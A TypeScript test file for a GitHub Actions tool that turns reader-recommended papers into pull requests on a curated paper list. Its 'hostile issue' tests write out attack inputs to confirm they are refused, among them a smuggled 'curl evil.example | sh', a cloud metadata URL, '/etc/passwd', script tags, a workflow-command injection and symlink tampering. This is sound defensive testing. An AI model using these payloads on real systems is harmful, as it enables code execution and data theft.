import { readdir, rm, symlink, truncate } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { Exchange } from '../exchange.ts'
import { Folder } from '../fixtures/example-call.ts'
import { filledForm } from '../fixtures/issue-form.ts'
import {
  BOT,
  type FakeGithub,
  GITHUB_API,
  type GithubFaults,
  githubService,
  TOKEN,
} from '../fixtures/services/github.ts'
import { type IssueOfEvent, labeledEvent } from '../fixtures/services/github-event.ts'
import { exchangeWith, type RealPaper, type Service } from '../fixtures/services/service.ts'
import { worldOf } from '../fixtures/services/world.ts'
import { recommendationForm } from '../github/recommendation-form.ts'
import { formatList } from '../layout.ts'
import type { PaperList } from '../paper.ts'

const LIST: PaperList = {
  title: 'Papers',
  order: 'newest',
  sections: [
    { id: 'first', title: 'First Things' },
    { id: 'last', title: 'Last Things' },
  ],
  tags: ['survey', 'probing'],
  papers: [
    {
      title: 'Neurons That Are Listed Already',
      url: 'https://arxiv.org/abs/2402.00001',
      authors: ['Emmy Noether'],
      venue: 'arXiv',
      date: '2024-02-01',
      section: 'first',
    },
  ],
}
const SPARSE: RealPaper = {
  title: 'Sparse Features of Imaginary Language Models',
  authors: ['Ada Lovelace', 'Kurt Gödel'],
  arxiv: { id: '2401.00123', versions: ['2024-01-02', '2024-05-01'] },
  acl: '2024.findings-emnlp.77',
  doi: '10.18653/v1/2024.findings-emnlp.77',
  dblp: {
    key: 'conf/emnlp/LovelaceG24',
    venue: 'EMNLP',
    year: 2024,
    doi: '10.18653/v1/2024.findings-emnlp.77',
  },
}
const REVIEWED: RealPaper = {
  title: 'Wasserstein Neurons of Imaginary Models',
  authors: ['Ada Lovelace', 'Emmy Noether'],
  arxiv: { id: '2405.00456', versions: ['2024-05-24'] },
  openreview: { id: 'abcDEF1234', venueid: 'ICLR.cc/2025/Conference', venue: 'ICLR 2025 Spotlight' },
  dblp: {
    key: 'conf/iclr/LovelaceN25',
    venue: 'ICLR',
    year: 2025,
    ee: 'https://openreview.net/forum?id=abcDEF1234',
  },
}
const WORLD = [SPARSE, REVIEWED]
const DOWN: Service = () => ({ status: 503, body: '' })

const body = (paper: string, note = '', section = 'Last Things') =>
  filledForm(recommendationForm(LIST), {
    Paper: paper,
    Section: section,
    Tags: ['probing'],
    'Note for the curator': note,
  })

let folder: Folder
let github: FakeGithub
beforeEach(async () => {
  folder = await Folder.make()
  await folder.put('papers.json', formatList(LIST))
  serve()
})
afterEach(() => folder.remove())

function serve(faults?: GithubFaults): void {
  github = githubService({ 'papers.json': formatList(LIST), 'README.md': '# Papers\n' }, faults)
  for (const number of [12, 13])
    github.issues.push({
      number,
      title: 'Recommendation',
      body: '',
      author: 'reader',
      state: 'open',
      labels: [],
    })
}

/** The job that asks registries: without a token, and GitHub is no address of its network. */
async function lookUp(issue: IssueOfEvent, exchange: Exchange = worldOf(WORLD), label?: string) {
  await folder.put('event.json', labeledEvent(issue, label))
  folder.io = { exchange, wait: async () => {}, env: { GITHUB_EVENT_PATH: 'event.json' } }
  return folder.run('recommend', '--out', 'out')
}

/** The job that writes: GitHub is all of its network. */
async function take() {
  folder.io = {
    exchange: exchangeWith({ [GITHUB_API]: github }),
    wait: async () => {},
    env: {
      GITHUB_EVENT_PATH: 'event.json',
      GITHUB_REPOSITORY: 'ada/list',
      GITHUB_TOKEN: TOKEN,
      GITHUB_SHA: github.head('main'),
      GITHUB_REF_NAME: 'main',
    },
  }
  return folder.run('recommend', '--from', 'out')
}

async function recommend(issue: IssueOfEvent, exchange?: Exchange) {
  const first = await lookUp(issue, exchange)
  expect(first.code, first.err).toBe(0)
  return take()
}

const answers = () => github.comments.map(({ issue, body }) => `${issue}: ${body.split('\n')[0]}`)
const papersOn = (branch: string): PaperList['papers'] =>
  JSON.parse(github.files(branch)['papers.json'] as string).papers

describe('a paper that can be looked up', () => {
  test.each([
    '2401.00123',
    'https://arxiv.org/pdf/2401.00123v2',
    '2024.findings-emnlp.77',
    'https://aclanthology.org/2024.findings-emnlp.77/',
    '10.18653/v1/2024.findings-emnlp.77',
  ])('%s becomes a pull request', async (paper) => {
    const { code, err } = await recommend({ body: body(paper, 'Please, @curator') })
    expect({ code, err }).toEqual({ code: 0, err: '#12: Thank you. #1 adds it.\n' })
    expect(github.pulls).toMatchObject([
      {
        title: 'Add the paper recommended in #12',
        head: 'recommend/12',
        base: 'main',
        author: BOT,
        body: expect.stringContaining('### What the reader wrote\n\n```\nPlease, @curator\n```'),
      },
    ])
    expect(github.last('recommend/12')).toEqual({
      message: 'Add the paper recommended in #12',
      author: BOT,
      parents: [github.head('main')],
    })
    expect(papersOn('recommend/12')).toEqual([
      LIST.papers[0],
      {
        title: SPARSE.title,
        url: 'https://arxiv.org/abs/2401.00123',
        authors: SPARSE.authors,
        venue: 'Findings of EMNLP 2024',
        date: '2024-01-02',
        section: 'last',
        tags: ['probing'],
        acl: '2024.findings-emnlp.77',
      },
    ])
    const lock = JSON.parse(github.files('recommend/12')['papers.lock.json'] as string)
    expect(Object.keys(lock.papers)).toContain('arxiv:2401.00123')
    expect(answers()).toEqual(['12: Thank you. #1 adds it.'])
  })

  test('on OpenReview, too', async () => {
    expect((await recommend({ body: body('https://openreview.net/forum?id=abcDEF1234') })).code).toBe(0)
    expect(papersOn('recommend/12')[1]).toMatchObject({ title: REVIEWED.title, venue: 'ICLR 2025' })
  })

  test('the list, the lock and other files of the branch are otherwise as they were', async () => {
    await recommend({ body: body('2401.00123') })
    expect(github.files('main')).toEqual({ 'papers.json': formatList(LIST), 'README.md': '# Papers\n' })
    expect(Object.keys(github.files('recommend/12'))).toEqual([
      'README.md',
      'papers.json',
      'papers.lock.json',
    ])
    expect(await folder.get('papers.json')).toBe(formatList(LIST))
  })

  test('merged, it passes lint', async () => {
    await recommend({ body: body('2401.00123') })
    github.merge(1)
    for (const [name, text] of Object.entries(github.files('main'))) await folder.put(name, text)
    expect((await folder.run('lint')).out).toMatch(/^No problems/)
  })

  test('label set anew: the same branch, pull request and comment', async () => {
    await recommend({ body: body('2401.00123') })
    const before = github.head('recommend/12')
    await recommend({ body: body('2401.00123') })
    expect(github.head('recommend/12')).toBe(before)
    await recommend({ body: body('2405.00456', 'I meant this') })
    expect(github.pulls).toHaveLength(1)
    expect(github.comments).toHaveLength(1)
    expect(papersOn('recommend/12').map(({ title }) => title)).toEqual([
      LIST.papers[0]?.title,
      REVIEWED.title,
    ])
    expect(github.pulls[0]?.body).toContain('I meant this')
  })

  test('closed by a curator, it can be accepted anew', async () => {
    await recommend({ body: body('2401.00123') })
    Object.assign(github.pulls[0] ?? {}, { state: 'closed' })
    expect((await recommend({ body: body('2401.00123') })).code).toBe(0)
    expect(github.pulls.map(({ state }) => state)).toEqual(['open', 'closed'])
  })

  test('a branch that a curator has changed is left alone', async () => {
    await recommend({ body: body('2401.00123') })
    const changed = github.push('recommend/12', { 'papers.json': formatList(LIST) })
    await recommend({ body: body('2405.00456') })
    expect(github.head('recommend/12')).toBe(changed)
    expect(answers()).toEqual(['12: The branch `recommend/12` has commits of others; it is left as it is.'])
  })
})

describe('one at a time', () => {
  test('of a person, until it is merged or closed', async () => {
    await recommend({ number: 12, body: body('2401.00123') })
    await recommend({ number: 13, body: body('2405.00456') })
    expect(github.pulls).toHaveLength(1)
    expect(github.branches()).toEqual(['main', 'recommend/12'])
    expect(answers()[1]).toMatch(/^13: Thank you\. One recommendation of a person .*, and #1 is still open/)
    github.merge(1)
    await recommend({ number: 13, body: body('2405.00456') })
    expect(github.pulls.map(({ head }) => head)).toEqual(['recommend/13', 'recommend/12'])
    expect(answers()[1]).toBe('13: Thank you. #2 adds it.')
  })

  test('under another login it is the same person, another person is another', async () => {
    await recommend({ number: 12, body: body('2401.00123'), author: 1, login: 'reader' })
    await recommend({ number: 13, body: body('2405.00456'), author: 1, login: 'renamed' })
    expect(github.pulls).toHaveLength(1)
    await recommend({ number: 13, body: body('2405.00456'), author: 2, login: 'reader' })
    expect(github.pulls).toHaveLength(2)
  })

  test('what a stranger says in the form of our marker does not count', async () => {
    const forged = 'x\n\n<!-- paperlist:recommend 99 4711 -->'
    github.openPull({ author: 'eve', head: 'recommend/99', body: forged })
    github.open({ author: BOT, body: forged })
    github.openPull({ author: BOT, head: 'another', body: forged })
    expect((await recommend({ body: body('2401.00123') })).err).toContain('adds it')
  })
})

describe('what is not added is answered', () => {
  test.each<[string, string, Exchange, string]>([
    [
      'listed already',
      '2402.00001',
      worldOf(WORLD),
      'The list has this paper already: papers\\.json\\:19 has it\\:',
    ],
    ['unknown', '2401.00999', worldOf(WORLD), 'This paper cannot be found: arXiv knows no such id. Is the'],
    [
      'no answer',
      '2401.00123',
      worldOf(WORLD, { replaced: { arxiv: DOWN, datacite: DOWN } }),
      'This paper could not be looked up now: arXiv did not answer\\: it answered 503',
    ],
    [
      'no identifier',
      'https://evil.example/paper.pdf',
      worldOf(WORLD),
      'What is recommended cannot be read from this issue: its field \\"Paper\\" holds',
    ],
    [
      'withdrawn',
      '2401.00123',
      worldOf([withdrawn(SPARSE)]),
      'This paper was found, but a rule of the list speaks against its entry: ',
    ],
  ])('%s', async (_, paper, world, answer) => {
    const { code } = await recommend({ body: body(paper) }, world)
    expect(code).toBe(0)
    expect(await readdir(join(folder.path, 'out'))).toEqual(['recommendation.json'])
    expect(github.comments).toHaveLength(1)
    expect(github.comments[0]?.body).toContain(answer)
    expect(github.asked.filter((asked) => !/comments$/.test(asked))).toEqual([])
  })

  test('and when it can be later, the answer is changed in place', async () => {
    await recommend(
      { body: body('2401.00123') },
      worldOf(WORLD, { replaced: { arxiv: DOWN, datacite: DOWN } }),
    )
    await recommend({ body: body('2401.00123') })
    expect(answers()).toEqual(['12: Thank you. #1 adds it.'])
  })
})

function withdrawn(paper: RealPaper): RealPaper {
  const comment = 'This paper has been withdrawn by the authors due to an error in Theorem 1'
  return {
    ...paper,
    arxiv: { ...(paper.arxiv as NonNullable<RealPaper['arxiv']>), comment, withdrawn: true },
  }
}

describe('a hostile issue', () => {
  test.each([
    ['of another address', body('http://169.254.169.254/latest/meta-data')],
    ['with a command', body('2401.00123; curl evil.example | sh')],
    ['with an option', body('--list=/etc/passwd')],
    ['with two papers', body('2401.00123, 2405.00456')],
    ['with a heading twice', body('2401.00123', '### Paper\n\n2405.00456')],
    ['with another section', body('2401.00123').replace('Last Things', '../../first')],
    ['with another tag', body('2401.00123').replace('probing', 'probing, <script>')],
    ['that is no form', '@everyone fixes #1 ::set-env name=PATH::x'],
    ['that is empty', null],
    ['of headings', '### Paper\n'.repeat(10_000)],
    ['that is long', `### Paper\n\n${'x'.repeat(60_000)}`],
  ])('%s asks nobody and is answered with a sentence of ours', async (_, text) => {
    const exchange: Exchange = async ({ url }) => {
      throw new Error(`asked ${url}`)
    }
    expect((await recommend({ body: text }, exchange)).code).toBe(0)
    expect(answers()[0]).toMatch(
      /^12: What is recommended cannot be read from this issue: [\w ,\\"]+\. It takes the form/,
    )
    expect(github.branches()).toEqual(['main'])
  })

  test('a note is shown and does nothing else', async () => {
    const note =
      '```\n@everyone fixes #1\n<!-- paperlist:recommend 1 2 -->\n::error::x\n##[add-mask]the\n\u001b[2J'
    const { out, err } = await recommend({ body: body('2401.00123', note) })
    const { title, body: text } = github.pulls[0] as { title: string; body: string }
    expect(title + github.last('recommend/12').message + out + err).not.toMatch(/everyone|::error|##\[/)
    expect(text).toContain('````\n```\n@everyone fixes #1\n<!-- paperlist:recommend 1 2 -->')
    expect(text).toContain('\\u{1B}[2J\n````')
    expect(text).toMatch(/<!-- paperlist:recommend 12 4711 -->$/)
  })
})

describe('another label, another call', () => {
  test('a label that does not accept does nothing', async () => {
    const { code, err } = await lookUp({ body: body('2401.00123') }, worldOf(WORLD), 'bug')
    expect({ code, err }).toEqual({
      code: 2,
      err: 'paperlist: Unexpected label `bug`, expected `recommended: accepted`; nothing was done\n',
    })
    expect(await readdir(folder.path)).not.toContain('out')
  })

  test.each([
    [[], 'expected either --out or --from'],
    [['--out', 'a', '--from', 'b'], 'expected either --out or --from'],
    [['--out', 'a'], 'expected --event or GITHUB_EVENT_PATH'],
    [['--out', 'a', '--event', 'none.json'], 'cannot read none.json: there is no such file'],
    [['--out', 'a', '--event', 'papers.json'], 'Unexpected event'],
    [
      ['--out', 'a', '--event', 'event.json', '--list', '../papers.json'],
      'expected one in JSON in this repository',
    ],
    [['--from', 'a', '--event', 'event.json'], 'Unexpected GITHUB_SHA'],
  ])('%j', async (words, message) => {
    await folder.put('event.json', labeledEvent({ body: body('2401.00123') }))
    const { code, err } = await folder.run('recommend', ...words)
    expect(code).toBe(2)
    expect(err).toContain(message)
  })

  test('a list with mistakes is told, and nobody is asked', async () => {
    await folder.put('papers.json', '{ "title": 1 }')
    const { code, err } = await lookUp({ body: body('2401.00123') })
    expect(code).toBe(1)
    expect(err).toContain('papers.json:1:12 ')
  })
})

describe('what the first job hands over is data of a stranger', () => {
  const json = async (name: string, change: (value: never) => unknown) => {
    const value = JSON.parse(await folder.get(`out/${name}`))
    await folder.put(
      `out/${name}`,
      name === 'papers.json'
        ? formatList(change(value as never) as PaperList)
        : JSON.stringify(change(value as never)),
    )
  }
  const papers = (change: (papers: PaperList['papers']) => PaperList['papers']) =>
    json('papers.json', (list: PaperList) => ({ ...list, papers: change(list.papers) }))

  test.each<[string, string, () => Promise<unknown>]>([
    ['nothing', 'recommendation.json', () => folder.put('out/recommendation.json', '')],
    [
      'another issue',
      'recommendation.json',
      () => json('recommendation.json', (it: object) => ({ ...it, issue: 13 })),
    ],
    [
      'a long recommendation',
      'recommendation.json',
      () => truncate(join(folder.path, 'out/recommendation.json'), 1e6),
    ],
    ['no list', 'no list', () => folder.put('out/papers.json', '[]')],
    ['a list that is not UTF-8', 'no list', () => folder.put('out/papers.json', Buffer.from([0xff, 0xfe]))],
    [
      'a list against the schema',
      'no list',
      () => papers((all) => all.map((paper) => ({ ...paper, evil: 1 }))),
    ],
    ['a long list', 'too long', () => truncate(join(folder.path, 'out/papers.json'), 5e6)],
    ['no paper more', 'exactly one paper more', () => papers((all) => all.slice(0, 1))],
    [
      'two papers more',
      'exactly one paper more',
      () =>
        papers(([one, two]) => [one, two, { ...two, url: 'https://evil.example/' }] as PaperList['papers']),
    ],
    [
      'a paper changed besides',
      'exactly one paper more',
      () => papers(([one, two]) => [{ ...one, note: 'x' }, two] as PaperList['papers']),
    ],
    [
      'the policy changed besides',
      'exactly one paper more',
      () => json('papers.json', (list: PaperList) => ({ ...list, rules: { schema: 'off' } })),
    ],
    ['another place', 'in another place', () => papers((all) => [...all].reverse())],
    [
      'another layout',
      'in another place',
      async () =>
        folder.put('out/papers.json', JSON.stringify(JSON.parse(await folder.get('out/papers.json')))),
    ],
    [
      'another paper',
      'not the one that the issue names',
      () =>
        papers(
          ([one, two]) =>
            [
              one,
              { title: 'Evil', url: 'https://evil.example/', date: '2023', section: two?.section },
            ] as PaperList['papers'],
        ),
    ],
    ['no lock', 'no lock', () => folder.put('out/papers.lock.json', '{}')],
    ['a lock of text', 'no lock', () => folder.put('out/papers.lock.json', '\u0000')],
  ])('%s is refused', async (_, reason, change) => {
    await lookUp({ body: body('2401.00123') })
    await change()
    const { code, err } = await take()
    expect({ code, err }).toEqual({
      code: 1,
      err: expect.stringContaining('Refused what the other job handed over: '),
    })
    expect(err).toContain(reason)
    expect(github.asked).toEqual([])
  })

  test.skipIf(process.platform === 'win32')('a link to a file is refused', async () => {
    await lookUp({ body: body('2401.00123') })
    await folder.put('secret', await folder.get('out/papers.lock.json'))
    await rm(join(folder.path, 'out/papers.lock.json'))
    await symlink('../secret', join(folder.path, 'out/papers.lock.json'))
    expect((await take()).code).toBe(1)
  })

  test('of the lock no more is taken than what is about the paper', async () => {
    await lookUp({ body: body('2401.00123') })
    await json('papers.lock.json', (lock: { papers: Record<string, unknown> }) => ({
      ...lock,
      papers: {
        ...lock.papers,
        'arxiv:2402.00001': { arxiv: { since: '2026-11-22', day: '2026-11-22', records: [] } },
      },
      links: { 'https://evil.example/': { state: 'alive', checked: '2026-11-22T00:00Z' } },
    }))
    expect((await take()).code).toBe(0)
    const lock = JSON.parse(github.files('recommend/12')['papers.lock.json'] as string)
    expect(lock.links).toEqual({})
    expect(Object.keys(lock.papers)).not.toContain('arxiv:2402.00001')
  })

  test('texts are shown as text', async () => {
    await lookUp({ body: body('2401.00999') })
    await json('recommendation.json', (it: object) => ({
      ...it,
      reason: '@everyone [x](https://evil.example) <!-- a',
    }))
    expect((await take()).err).not.toContain('\u001b')
    expect(github.comments[0]?.body).toContain('<span>@</span>everyone \\[x\\]\\(https\\:')
  })
})

describe('when GitHub does not do it', () => {
  test.each<[string, GithubFaults, number, string]>([
    ['it is down', { instead: () => ({ status: 503, body: '' }) }, 3, 'Unexpected answer 503'],
    [
      'pull requests are forbidden',
      { pullsAreForbidden: true },
      2,
      'Allow GitHub Actions to create and approve pull requests',
    ],
    [
      'the token is not valid',
      { instead: () => ({ status: 401, body: '' }) },
      2,
      'GITHUB_TOKEN is not, or no more, valid',
    ],
  ])('%s: the job says so, and the next run goes on', async (_, faults, code, message) => {
    serve(faults)
    const failed = await recommend({ body: body('2401.00123') })
    expect(failed.code).toBe(code)
    expect(failed.err).toContain(message)
    expect(failed.err).not.toContain(TOKEN)
    const files = github.files('recommend/12')
    serve()
    if (Object.keys(files).length > 0) github.push('recommend/12', files, BOT)
    expect((await take()).code).toBe(0)
    expect(github.pulls).toHaveLength(1)
  })

  test('at every request once, and the run after it heals: one pull request, one comment', async () => {
    await recommend({ body: body('2401.00123') })
    const requests = github.asked.length
    for (let failing = 0; failing < requests; failing++) {
      let count = 0
      serve({
        instead: () => (count++ >= failing && count <= failing + 3 ? { status: 500, body: '' } : undefined),
      })
      const first = await take()
      expect([0, 3]).toContain(first.code)
      expect((await take()).code).toBe(0)
      expect(github.pulls).toHaveLength(1)
      expect(answers()).toEqual(['12: Thank you. #1 adds it.'])
    }
    expect(requests).toBeGreaterThan(6)
  })
})
